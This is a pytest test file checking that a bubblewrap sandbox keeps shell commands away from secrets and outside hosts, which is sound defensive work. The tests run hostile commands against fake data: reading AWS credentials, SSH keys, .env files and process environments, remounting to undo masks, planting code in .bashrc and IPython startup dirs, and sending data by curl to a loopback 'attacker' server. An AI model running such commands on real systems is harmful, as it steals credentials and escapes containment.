"""Containment under real bubblewrap: what a contained command cannot read, write or reach, and
what it still can (its workspace, the allowed hosts through the proxy); the refusal where bwrap is
missing; exec's kill semantics kept under bwrap."""

from __future__ import annotations

import asyncio
import http.server
import os
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from flue_nb.runtime.errors import ConfigError
from flue_nb.runtime.sandbox.autorun import places_in
from flue_nb.runtime.sandbox.contain import containment
from flue_nb.runtime.sandbox.local import LocalSandbox, local
from flue_nb.runtime.sandbox.proxy import host_allowed
from tests.bwrap import require_bwrap
from tests.procs import gone


def run(coro):
    """Run a coroutine to completion (pytest-asyncio is not installed)."""
    return asyncio.run(coro)


@pytest.fixture
def bwrap() -> None:
    require_bwrap()


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake $HOME holding the usual secrets, and a workspace beside a project `.env`."""
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = AKIA-FAKE-SECRET\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("FAKE PRIVATE KEY\n")
    (home / ".netrc").write_text("machine mirror.localhost password NETRC-SECRET\n")
    (home / "project").mkdir()
    (home / "project" / ".env").write_text("API_KEY=DOTENV-SECRET\n")
    (home / "project" / "work").mkdir()
    (home / "project" / "work" / ".env").write_text("MINE=1\n")
    monkeypatch.setenv("HOME", str(home))
    return home


class _Server:
    """A loopback HTTP server that records the paths it was asked for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                body = f"served {self.path}\n".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def servers() -> Iterator[tuple[_Server, _Server]]:
    """(allowed, attacker): two loopback HTTP servers."""
    pair = (_Server(), _Server())
    yield pair
    for s in pair:
        s.close()


def test_the_secret_places_are_hidden_and_readable_without_the_sandbox(bwrap, home: Path) -> None:
    work = home / "project" / "work"
    cmd = "cat ~/.aws/credentials ~/.ssh/id_ed25519 ~/.netrc ../.env .env"
    open_ = run(local(work).exec(cmd))
    assert b"AKIA-FAKE-SECRET" in open_.output and b"DOTENV-SECRET" in open_.output  # the test has teeth
    res = run(local(work, sandbox="bwrap").exec(cmd))
    for secret in (b"AKIA-FAKE-SECRET", b"FAKE PRIVATE KEY", b"NETRC-SECRET", b"DOTENV-SECRET"):
        assert secret not in res.output
    assert b"MINE=1" in res.output  # the workspace's own .env is the user's to use
    assert res.exit_code != 0


def test_a_workspace_that_is_home_still_hides_home_secrets(bwrap, home: Path) -> None:
    # Jupyter is often started in $HOME: the workspace holds ~/.ssh, which stays hidden.
    res = run(local(home, sandbox="bwrap").exec("cat ~/.ssh/id_ed25519; echo hi > ~/made; touch ~/.ssh/new"))
    assert b"FAKE PRIVATE KEY" not in res.output and (home / "made").read_text() == "hi\n"
    assert not (home / ".ssh" / "new").exists()


@pytest.mark.parametrize("ipython_dir", ["~/.ipython", "$IPYTHONDIR"])
def test_a_workspace_that_is_home_keeps_the_places_that_run_code_later_read_only(
    bwrap, home: Path, ipython_dir: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Jupyter started in ~: IPython's startup dir and ~/.bashrc are in the workspace, and a file
    # put there runs at the next kernel or shell start, outside any sandbox.
    profile = home / ".ipython" if ipython_dir == "~/.ipython" else home / "ipython-here"
    if ipython_dir == "$IPYTHONDIR":
        monkeypatch.setenv("IPYTHONDIR", str(profile))
    startup = profile / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (home / ".bashrc").write_text("# mine\n")
    cmd = f"echo 'import os' > {startup}/00-x.py; echo evil >> ~/.bashrc; echo ok > ~/notes.txt"
    res = run(local(home, sandbox="bwrap").exec(cmd))
    assert not (startup / "00-x.py").exists() and (home / ".bashrc").read_text() == "# mine\n"
    assert res.output.count(b"Read-only file system") == 2, res.output
    assert (home / "notes.txt").read_text() == "ok\n"  # the rest of ~ is the workspace


def test_the_places_mounted_read_only_are_the_outermost_inside_the_workspace(home: Path) -> None:
    (home / ".ipython" / "profile_default").mkdir(parents=True)
    (home / ".bashrc").write_text("")
    (home / ".config" / "fish").mkdir(parents=True)
    found = places_in(os.path.realpath(home))
    for name in (".ipython", ".bashrc", ".config/fish"):
        assert os.path.realpath(home / name) in found
    assert not any(p.startswith(os.path.realpath(home / ".ipython") + "/") for p in found)
    assert places_in(os.path.realpath(home / "project")) == []  # none of them is in there
    # A workspace inside one of them is not made read-only by it.
    assert os.path.realpath(home / ".ipython") not in places_in(os.path.realpath(home / ".ipython" / "profile_default"))


def test_a_path_the_user_adds_is_hidden_too(bwrap, home: Path) -> None:
    (home / "vault").mkdir()
    (home / "vault" / "token").write_text("VAULT-SECRET\n")
    (home / "key.pem").write_text("PEM-SECRET\n")
    sb = local(home / "project", sandbox="bwrap", hide_paths=["~/vault", str(home / "key.pem")])
    res = run(sb.exec("cat ~/vault/token ~/key.pem"))
    assert b"VAULT-SECRET" not in res.output and b"PEM-SECRET" not in res.output


def test_no_capability_inside_lets_a_command_undo_the_masks(bwrap, monkeypatch: pytest.MonkeyPatch) -> None:
    # As root bwrap keeps the command's capabilities unless they are dropped: with CAP_SYS_ADMIN
    # `umount` showed ~/.aws again, and a read-write remount of / wrote to the host's files.
    # (A $HOME outside /tmp: under /tmp the private tmpfs hides it whole, masks or not.)
    home = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="flue-home-"))
    try:
        (home / ".aws").mkdir()
        (home / ".aws" / "credentials").write_text("aws_secret_access_key = AKIA-FAKE-SECRET\n")
        (home / "work").mkdir()
        monkeypatch.setenv("HOME", str(home))
        cmd = (
            "grep CapEff /proc/self/status; umount ~/.aws; cat ~/.aws/credentials; "
            "mount -o remount,rw,bind / ; touch ~/pwned; echo END"
        )
        res = run(local(home / "work", sandbox="bwrap").exec(cmd))
        assert b"END" in res.output, res.output
        assert b"AKIA-FAKE-SECRET" not in res.output
        assert not (home / "pwned").exists()
        assert b"CapEff:\t0000000000000000" in res.output
    finally:
        shutil.rmtree(home)


def test_the_kernels_environ_is_not_readable(bwrap, tmp_path: Path) -> None:
    # /proc/PID/environ is the environment a process started with: a stand-in kernel holds a key.
    kernel = subprocess.Popen(["sleep", "60"], env={**os.environ, "FLUE_TEST_KEY": "PARENT-ENVIRON-SECRET"})
    try:
        cmd = f"cat /proc/{kernel.pid}/environ; cat /proc/{os.getpid()}/environ"
        assert b"PARENT-ENVIRON-SECRET" in run(local(tmp_path).exec(cmd)).output
        res = run(local(tmp_path, sandbox="bwrap").exec(cmd))
        assert b"PARENT-ENVIRON-SECRET" not in res.output and res.exit_code != 0
        # The sandbox has its own /proc: no process outside it is there at all.
        assert res.output.count(b"No such file or directory") == 2 and b"PATH=" not in res.output
    finally:
        kernel.kill()
        kernel.wait()


def test_the_workspace_is_writable_and_nothing_else(bwrap, tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    # A place outside /tmp (the sandbox's /tmp is its own) that the user can write to.
    outside = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="flue-outside-"))
    try:
        sb = local(work, sandbox="bwrap")
        res = run(sb.exec(f"echo hi > made.txt && mkdir -p sub && echo x > sub/f; echo x > {outside}/pwned"))
        assert (work / "made.txt").read_text() == "hi\n" and (work / "sub" / "f").exists()
        assert b"Read-only file system" in res.output and not (outside / "pwned").exists()
        res = run(sb.exec(f"echo x > {tmp_path}/beside; echo x > /tmp/shared; ls /tmp"))
        assert not (tmp_path / "beside").exists()
        assert not Path("/tmp/shared").exists() or Path("/tmp/shared").read_text() != "x\n"
    finally:
        shutil.rmtree(outside)


def test_no_network_without_allow_hosts(bwrap, tmp_path: Path, servers: tuple[_Server, _Server]) -> None:
    _, attacker = servers
    cmd = f"curl -sS -m 5 http://127.0.0.1:{attacker.port}/leak"
    assert b"served /leak" in run(local(tmp_path).exec(cmd)).output
    attacker.paths.clear()
    res = run(local(tmp_path, sandbox="bwrap").exec(cmd))
    assert res.exit_code != 0 and attacker.paths == []


def test_only_the_allowed_host_answers_through_the_proxy(
    bwrap, tmp_path: Path, servers: tuple[_Server, _Server]
) -> None:
    allowed, attacker = servers
    sb = local(tmp_path, sandbox="bwrap", allow_hosts=[f"127.0.0.1:{allowed.port}"])
    ok = run(sb.exec(f"curl -sS -m 10 http://127.0.0.1:{allowed.port}/hello"))
    assert ok.exit_code == 0 and ok.output == b"served /hello\n"
    # HTTPS-style: a CONNECT tunnel, checked at CONNECT.
    tunnel = run(sb.exec(f"curl -sS -m 10 --proxytunnel http://127.0.0.1:{allowed.port}/tunnel"))
    assert tunnel.output == b"served /tunnel\n"
    # The attacker: refused by the proxy (plain and tunnelled), and unreachable around it.
    for cmd in (
        f"curl -sS -m 10 http://127.0.0.1:{attacker.port}/leak",
        f"curl -sS -m 10 --proxytunnel http://127.0.0.1:{attacker.port}/leak",
        f"curl -sS -m 10 --noproxy '*' http://127.0.0.1:{attacker.port}/leak",
    ):
        res = run(sb.exec(cmd))
        assert b"served" not in res.output, cmd
    assert attacker.paths == [] and allowed.paths == ["/hello", "/tunnel"]
    refused = run(sb.exec(f"curl -sS -m 10 http://127.0.0.1:{attacker.port}/x"))
    assert b"is not in allow_hosts" in refused.output


def test_python_reaches_the_allowed_host_by_the_proxy_variables(
    bwrap, tmp_path: Path, servers: tuple[_Server, _Server]
) -> None:
    allowed, _ = servers
    sb = local(tmp_path, sandbox="bwrap", allow_hosts=["127.0.0.1"])
    code = f"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{allowed.port}/py').read().decode())"
    res = run(sb.exec(["python3", "-c", code]))
    assert res.output == b"served /py\n\n" and res.exit_code == 0


def test_host_rules() -> None:
    assert host_allowed("pkgs.localhost", 443, ["pkgs.localhost"])
    assert host_allowed("PKGS.localhost.", 443, ["pkgs.localhost"])
    assert not host_allowed("evil-pkgs.localhost", 443, ["pkgs.localhost"])
    assert host_allowed("files.mirror.localhost", 443, ["*.mirror.localhost"])
    assert not host_allowed("mirror.localhost.evil.localhost", 443, ["*.mirror.localhost"])
    assert host_allowed("api.localhost", 443, ["api.localhost:443"])
    assert not host_allowed("api.localhost", 22, ["api.localhost:443"])
    assert host_allowed("::1", 8080, ["[::1]:8080"])


def test_bad_settings_are_refused_when_made(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="'auto', 'bwrap' or 'none'"):
        local(tmp_path, sandbox="on")  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match="not URLs"):
        containment("auto", ["http://pkgs.localhost/simple"])
    with pytest.raises(ConfigError, match="allow_hosts needs a sandbox"):
        containment("none", ["pkgs.localhost"])


def test_without_bwrap_commands_are_refused_not_run_uncontained(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    empty = tmp_path / "bin"
    empty.mkdir()
    for program in ("bash", "touch"):
        os.symlink(shutil.which(program) or f"/bin/{program}", empty / program)
    monkeypatch.setenv("PATH", str(empty))  # a machine where bwrap is not installed
    for level in ("auto", "bwrap"):
        sb = LocalSandbox(tmp_path, sandbox=level)  # type: ignore[arg-type]
        res = run(sb.exec("touch ran"))
        assert res.exit_code == 126 and not (tmp_path / "ran").exists()
        text = res.output.decode()
        assert "bubblewrap" in text and "apt-get install bubblewrap" in text and "sandbox='none'" in text
    res = run(LocalSandbox(tmp_path, sandbox="none").exec("touch ran"))
    assert res.exit_code == 0 and (tmp_path / "ran").exists()


def test_without_bwrap_the_read_tools_fixed_programs_still_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # `grep` and `glob` start fixed programs (argv lists) that only read, as the in-process `read`
    # does: a machine without bubblewrap keeps them; only the model's shell strings are refused.
    empty = tmp_path / "bin"
    empty.mkdir()
    os.symlink(shutil.which("ls") or "/bin/ls", empty / "ls")
    monkeypatch.setenv("PATH", str(empty))
    (tmp_path / "seen.txt").write_text("x")
    res = run(LocalSandbox(tmp_path, sandbox="auto").exec(["ls"]))
    assert res.exit_code == 0 and b"seen.txt" in res.output


def test_the_kill_semantics_hold_under_bwrap(bwrap, tmp_path: Path) -> None:
    sb = local(tmp_path, sandbox="bwrap")
    res = run(sb.exec("sleep 31338.1 & echo up; sleep 300", timeout=3))
    assert res.exit_code == 124 and res.timed_out and res.output == b"up\n"
    assert gone("sleep 31338.1") == []

    async def abort() -> None:
        task = asyncio.ensure_future(sb.exec("sleep 31338.2 & sleep 300"))
        await asyncio.sleep(0.5)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    run(abort())
    assert gone("sleep 31338.2") == []
    assert run(sb.exec("kill -9 $$")).exit_code == 137
    assert run(sb.exec("exit 5")).exit_code == 5
    missing = run(sb.exec(["no-such-program-flue"]))
    assert missing.exit_code == 127 and b"not found" in missing.output
    # A background child ends with the command: the sandbox's PID namespace goes with it.
    run(sb.exec("sleep 31338.3 &"))
    assert gone("sleep 31338.3") == []


def test_a_program_and_a_python_under_tmp_are_there_inside(bwrap, tmp_path: Path, monkeypatch) -> None:
    # /tmp is a private tmpfs inside, so a venv or a checkout under /tmp (CI clones there) vanished:
    # `bwrap: execvp /tmp/.../python: No such file`. What the command needs is bound back read-only.
    tools = Path(tempfile.mkdtemp(prefix="flue-tools-", dir="/tmp"))
    try:
        program = tools / "bin" / "hello"
        program.parent.mkdir()
        program.write_text("#!/bin/sh\necho hello from $0\n")
        program.chmod(0o755)
        workspace = tmp_path / "work"
        workspace.mkdir()
        res = run(local(workspace, sandbox="bwrap").exec([str(program)]))
        assert res.exit_code == 0 and res.output == f"hello from {program}\n".encode(), res.output
        writer = tools / "bin" / "write-here"
        writer.write_text('#!/bin/sh\ntouch "$(dirname "$0")/x"\n')
        writer.chmod(0o755)
        assert run(local(workspace, sandbox="bwrap").exec([str(writer)])).exit_code != 0  # read-only
        assert not (tools / "bin" / "x").exists()
        # A shell string needs nothing of it: the rest of /tmp stays private.
        assert b"No such file" in run(local(workspace, sandbox="bwrap").exec(f"ls {tools}")).output
    finally:
        shutil.rmtree(tools)


@pytest.fixture
def outside(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A $HOME with ~/.aws and flue_nb's cache dir outside /tmp (whose private tmpfs hides it whole)."""
    root = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="flue-outside-"))
    (root / "home" / ".aws").mkdir(parents=True)
    (root / "home" / ".aws" / "credentials").write_text("aws_secret_access_key = AKIA-FAKE-SECRET\n")
    (root / "home" / "work").mkdir()
    monkeypatch.setenv("HOME", str(root / "home"))
    monkeypatch.setenv("FLUE_CACHE_DIR", str(root / "cache"))
    yield root
    for path, _, _ in os.walk(root):
        os.chmod(path, 0o755)  # the kept empty dir is read-only
    shutil.rmtree(root)


_WRAP_THEN_DIE = """
import os, sys
from flue_nb.runtime.sandbox.autorun import places_in
from flue_nb.runtime.sandbox.contain import containment
args, _ = containment("bwrap").wrap(["true"], workspace=sys.argv[1], workdir=sys.argv[1], env={})
print(args[args.index(os.path.expanduser("~/.aws")) - 1], flush=True)
os.kill(os.getpid(), 9)  # as a kernel that is killed: no exit handler runs
"""


@pytest.mark.parametrize("cache_in_workspace", [False, True])
def test_killed_processes_leave_no_empty_dir_behind(
    bwrap, outside: Path, tmp_path: Path, monkeypatch, cache_in_workspace: bool
) -> None:
    # Each process made its own empty dir in /tmp to mount over hidden places, removed at exit:
    # every killed kernel left one. Now one is kept per user and shared: in flue_nb's cache dir,
    # or in the temp dir where the cache dir is in the workspace (Jupyter started in ~).
    work = outside / "home" / "work"
    if cache_in_workspace:
        monkeypatch.setenv("FLUE_CACHE_DIR", str(work / ".cache"))
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    sources = []
    for _ in range(2):
        done = subprocess.run([sys.executable, "-c", _WRAP_THEN_DIE, str(work)], capture_output=True, text=True)
        assert done.returncode == -9, done.stderr
        sources.append(done.stdout.strip())
    kept = tmp_path / f"flue-hidden-{os.geteuid()}" if cache_in_workspace else outside / "cache" / "empty"
    assert sources == [str(kept)] * 2
    assert os.listdir(tmp_path) == ([kept.name] if cache_in_workspace else [])
    assert os.listdir(kept) == [] and oct(os.stat(kept).st_mode & 0o777) == "0o555"
    res = run(local(work, sandbox="bwrap").exec("ls -a ~/.aws; cat ~/.aws/credentials"))
    assert b"AKIA-FAKE-SECRET" not in res.output and res.output.startswith(b".\n..\n"), res.output
    if cache_in_workspace:
        os.chmod(kept, 0o755)  # read-only: let tmp_path's cleanup remove it


def test_a_kept_empty_dir_that_is_not_empty_is_not_mounted(bwrap, outside: Path) -> None:
    kept = outside / "cache" / "empty"
    kept.mkdir(parents=True)
    (kept / "credentials").write_text("PLANTED\n")
    res = run(local(outside / "home" / "work", sandbox="bwrap").exec("ls ~/.aws; cat ~/.aws/credentials"))
    assert b"PLANTED" not in res.output and b"AKIA-FAKE-SECRET" not in res.output
    assert res.exit_code != 0  # the mask is there, and empty


def test_the_kept_empty_dir_cannot_be_changed_from_inside(bwrap, outside: Path) -> None:
    kept = outside / "cache" / "empty"
    sb = local(outside / "home" / "work", sandbox="bwrap")
    res = run(sb.exec(f"chmod 755 {kept}; touch {kept}/planted; ls -a ~/.aws; echo END"))
    assert b"Read-only file system" in res.output and os.listdir(kept) == [], res.output
    assert res.output.endswith(b"\n.\n..\nEND\n")  # ~/.aws inside: empty
    assert run(local(outside / "home").exec("cat ~/.aws/credentials")).output.strip().endswith(b"AKIA-FAKE-SECRET")


def test_a_kept_empty_dir_that_is_a_symlink_is_not_taken(bwrap, outside: Path) -> None:
    (outside / "elsewhere").mkdir()
    (outside / "cache").mkdir()
    (outside / "cache" / "empty").symlink_to(outside / "elsewhere")
    args, _ = containment("bwrap").wrap(["true"], workspace=str(outside / "home" / "work"), workdir="/", env={})
    source = args[args.index(str(outside / "home" / ".aws")) - 1]
    assert source not in (str(outside / "cache" / "empty"), str(outside / "elsewhere"))
    assert os.path.basename(source).startswith("flue-hidden-") and os.listdir(source) == []
